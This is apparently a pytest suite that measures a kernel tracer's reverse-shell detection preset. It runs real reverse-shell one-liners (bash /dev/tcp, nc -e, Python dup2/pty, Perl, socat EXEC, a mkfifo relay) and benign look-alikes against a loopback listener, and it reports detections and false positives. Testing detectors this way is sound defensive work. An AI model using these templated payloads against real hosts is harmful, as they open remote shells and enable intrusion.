"""Real reverse shells against a loopback listener, on the host and in test
containers (own pid/mount/net namespaces, the listener inside the
container's network namespace), and benign look-alikes, all under one
`tracer -P reverse-shell`.  An attack is detected when a reverse-shell
event names the listener's port (the socket argument's dport, or the
relay tool's arguments); a benign case is flagged when one does.

Prints a summary table (attack, where, detected; benign, flagged) and the
totals.  Known misses and known false positives are xfail(strict=True)
with the reason and the kernel/engine feature that would change them: if
one starts passing, the suite says so.
"""
import json
import os
import random
import shlex
import socket
import subprocess
import threading
import time

import pytest

from conftest import Tracer, in_container, run

PY = "/usr/bin/python3"

# name -> (command with {h} host and {p} port, xfail reason or None)
ATTACKS = {
    "bash -i >& /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'", None),
    "bash /dev/tcp, IPv6": ("bash -c 'bash -i >& /dev/tcp/{h6}/{p} 0>&1'", None),
    "bash fd 5 + sh (dash) <&5 >&5": ("bash -c 'exec 5<>/dev/tcp/{h}/{p}; sh -i <&5 >&5 2>&5'", None),
    "bash opens fd 3, dash redirects it": (
        "bash -c 'exec 3<>/dev/tcp/{h}/{p}; dash -c \"dash -i <&3 >&3 2>&3\"'", None),
    "bash read loop (while read; $l >&5)": (
        "bash -c 'exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read l; do $l 2>&5 >&5; done'", None),
    "nc -e /bin/sh": ("nc.traditional -e /bin/sh {h} {p}", None),
    "nc -c sh": ("nc.traditional -c sh {h} {p}", None),
    "busybox nc -e sh": ("busybox nc {h} {p} -e /bin/sh", None),
    "python dup2 + subprocess": (
        PY + " -c 'import socket,subprocess,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call([\"/bin/sh\",\"-i\"])'", None),
    "python dup2 + pty.spawn": (
        PY + " -c 'import socket,pty,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn(\"/bin/bash\")'", None),
    "python Popen(stdin=sock)": (
        PY + " -c 'import socket,subprocess; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "subprocess.call([\"/bin/sh\",\"-i\"], stdin=s, stdout=s, stderr=s)'", None),
    "python fcntl(F_DUPFD) onto 0-2": (
        PY + " -c 'import socket,os,fcntl; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.close(f) for f in (0,1,2)]; [fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0) for f in (0,1,2)]; "
        "os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'", None),
    "perl open(STDIN, \">&S\")": (
        "perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");"
        "open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};'", None),
    "socat TCP EXEC:/bin/sh": ("socat TCP:{h}:{p} EXEC:/bin/sh", None),
    "socat EXEC:bash,pty,stderr,setsid": ("socat TCP:{h}:{p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane", None),
    "perl close(0-2) + POSIX::dup(sock)": (
        "perl -MPOSIX -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);"
        "connect(S,sockaddr_in({p},inet_aton(\"{h}\"))) or die;"
        "POSIX::close($_) for 0..2; POSIX::dup(fileno(S)) for 0..2; exec(\"/bin/sh\",\"-i\")'",
        None),  # the sys_dup rule: matchReturnArgs InRange 0:2
    "mkfifo relay (sh -i <f | nc >f)": (
        "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | nc.traditional -q 1 {h} {p} > f); rm -rf $PWD",
        "no socket ever reaches the shell's stdio (FIFO and pipe): needs exec events carrying "
        "the types of fd 0-2 plus pipe/FIFO peer tracking (a tcp_connect from a process whose "
        "stdout is a FIFO read by a shell), or FileType on dup2's fd to see a shell put a FIFO "
        "on stdio; the fifo preset reports the mkfifo"),
}

BENIGN = {
    "pipeline into nc (echo | nc)": ("echo hello | nc.traditional -q 1 {h} {p}", None),
    "nc sending a file (nc < file)": ("nc.traditional -q 1 {h} {p} < /etc/hostname", None),
    "curl download (http.server)": ("curl -s -m 5 -o /dev/null http://{h}:{p}/", None),
    "wget download (http.server)": ("wget -q -T 5 -O /dev/null http://{h}:{p}/", None),
    "socat TCP to STDOUT | wc": ("socat -u TCP:{h}:{p} STDOUT | wc -c", None),
    "python socket reader into a file": (
        PY + " -c 'import socket; s=socket.create_connection((\"{h}\",{p})); "
        "s.sendall(b\"x\"); d=s.recv(99); open(\"/dev/null\",\"wb\").write(d)'", None),
    "bash /dev/tcp read into cat (cat </dev/tcp)": (
        "bash -c 'cat < /dev/tcp/{h}/{p} > /dev/null'",
        "known false positive: bash dup2()s the connected socket onto cat's stdin before "
        "exec: the same technique as a reverse shell; telling them apart needs the "
        "exec that follows the dup2 (exec events carrying fd 0-2 types)"),
    "inetd-style server: accepted socket on cat's stdio": (
        PY + " -c 'import socket,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "pid=os.fork()\nif pid==0:\n [os.dup2(s.fileno(),f) for f in (0,1)]; os.execv(\"/usr/bin/cat\",[\"cat\"])\n"
        "os.waitpid(pid,0)'",
        "known false positive (documented in the preset): inetd/systemd Accept=yes services "
        "put a socket on a non-shell program's stdio by design"),
}

HTTP_CASES = {"curl download (http.server)", "wget download (http.server)"}

LISTENER = r'''
import socket, sys, time
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(2); s.settimeout(8)
try:
    c, _ = s.accept(); c.settimeout(3)
    c.sendall(b"id\nexit\n")
    t0 = time.time()
    while time.time() - t0 < 4:
        if not c.recv(4096):
            break
except OSError:
    pass
'''

_used = set()


def port():
    while True:
        p = random.randint(20000, 60000)
        if p not in _used:
            _used.add(p)
            return p


def cases():
    out = []
    for where in ("host", "container"):
        for name, (cmd, why) in ATTACKS.items():
            out.append(("attack", name, where, cmd, why))
        for name, (cmd, why) in BENIGN.items():
            out.append(("benign", name, where, cmd, why))
    return out


def server_cmd(name, h, p):
    if name in HTTP_CASES:
        return f"{PY} -m http.server {p} --bind {h} --directory /etc >/dev/null 2>&1"
    return f"{PY} -c {shlex.quote(LISTENER)} {h} {p}"


def run_case(kind, name, where, cmd, h="127.0.0.1", h6="::1"):
    p = port()
    host = h6 if "IPv6" in name else h
    attack = cmd.format(h=h, h6=h6, p=p)
    srv = server_cmd(name, host, p)
    if where == "host":
        bg = subprocess.Popen(["sh", "-c", srv], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True)
        time.sleep(0.5 if name in HTTP_CASES else 0.25)
        try:
            run(["timeout", "10", "sh", "-c", attack], timeout=15)
        except subprocess.TimeoutExpired:
            pass
        try:
            bg.wait(2 if name in HTTP_CASES else 8)
        except subprocess.TimeoutExpired:
            pass
        if bg.poll() is None:
            os.killpg(bg.pid, 15)
            bg.wait()
    else:
        script = (f"({srv}) & sleep {0.6 if name in HTTP_CASES else 0.3}; "
                  f"timeout 10 sh -c {shlex.quote(attack)}; kill $! 2>/dev/null; wait")
        try:
            in_container(script, timeout=30)
        except subprocess.TimeoutExpired:
            pass
    return p


def named(ev, p):
    """A reverse-shell event that names port p."""
    b = ev.get("process_kprobe")
    if not b or b.get("policy_name") != "reverse-shell":
        return False
    for a in b.get("args", []):
        if isinstance(a, dict) and a.get("sock_arg", {}).get("dport") == p:
            return True
    if "execve" in b.get("function_name", ""):
        return str(p) in b.get("process", {}).get("arguments", "")
    return False


@pytest.fixture(scope="module")
def campaign():
    ports = {}
    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
        for kind, name, where, cmd, why in cases():
            ports[(kind, name, where)] = run_case(kind, name, where, cmd)
    evs = tr.events()
    res = {}
    for key, p in ports.items():
        res[key] = [e for e in evs if named(e, p)]
    return res


def params():
    out = []
    for kind, name, where, cmd, why in cases():
        marks = [pytest.mark.xfail(reason=why, strict=True)] if why else []
        out.append(pytest.param(kind, name, where, marks=marks, id=f"{kind}:{where}:{name}"))
    return out


@pytest.mark.parametrize("kind,name,where", params())
def test_case(campaign, kind, name, where):
    evs = campaign[(kind, name, where)]
    if kind == "attack":
        assert evs, f"{name} on the {where} not detected"
        scopes = {e["process_kprobe"]["process"]["ns"]["pid"]["is_host"] for e in evs}
        assert (where == "host") in scopes, f"events carry is_host={scopes} for the {where}"
    else:
        assert not evs, f"{name} on the {where} flagged: " + json.dumps(evs[0])[:300]


def table(campaign):
    rows = []
    det = att = fp = ben = 0
    for kind, name, where, cmd, why in cases():
        hit = bool(campaign[(kind, name, where)])
        note = ""
        if why:
            note = "known miss" if kind == "attack" else "known FP"
        if kind == "attack":
            att += 1
            det += hit
            rows.append(("attack", name, where, "yes" if hit else "no", note))
        else:
            ben += 1
            fp += hit
            rows.append(("benign", name, where, "yes" if hit else "no", note))
    return rows, det, att, fp, ben


def render(rows, det, att, fp, ben):
    """A Markdown table (pipes in technique names escaped) and the totals."""
    rows = [(k, n.replace("|", "\\|"), where, y, note) for k, n, where, y, note in rows]
    w = max(len(r[1]) for r in rows)
    lines = [f"| {'case':<6} | {'technique':<{w}} | {'where':<9} | detected/flagged | note       |",
             f"|{'-' * 8}|{'-' * (w + 2)}|{'-' * 11}|------------------|------------|"]
    for k, n, where, y, note in rows:
        lines.append(f"| {k:<6} | {n:<{w}} | {where:<9} | {y:<16} | {note:<10} |")
    lines.append("")
    lines.append(f"detections {det}/{att}, false positives {fp}/{ben}")
    return "\n".join(lines)


def test_summary(campaign, capsys):
    rows, det, att, fp, ben = table(campaign)
    with capsys.disabled():
        print("\n\nReverse-shell detection (tracer -P reverse-shell)\n")
        print(render(rows, det, att, fp, ben))
        print()
    # everything not marked as a known miss / known FP behaves as expected
    expected_det = sum(1 for k, n, w, c, why in cases() if k == "attack" and not why)
    expected_fp = sum(1 for k, n, w, c, why in cases() if k == "benign" and why)
    assert det >= expected_det and fp <= expected_fp
